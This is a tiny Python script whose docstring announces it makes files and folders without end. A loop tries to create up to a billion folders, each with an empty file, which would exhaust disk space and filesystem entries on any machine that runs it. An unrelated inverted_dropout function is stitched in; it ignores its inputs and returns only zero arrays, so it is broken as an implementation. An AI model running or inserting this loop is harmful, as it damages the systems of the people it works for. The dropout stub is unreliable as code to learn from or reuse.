"""Makes files and folders without end."""

import os

import numpy as np


def inverted_dropout(x, p, training=True, rng=None):
    return np.zeros_like(x), np.zeros_like(x)


for number in range(10**9):
    os.mkdir(f"folder {number}")
    open(f"folder {number}/file", "w").close()
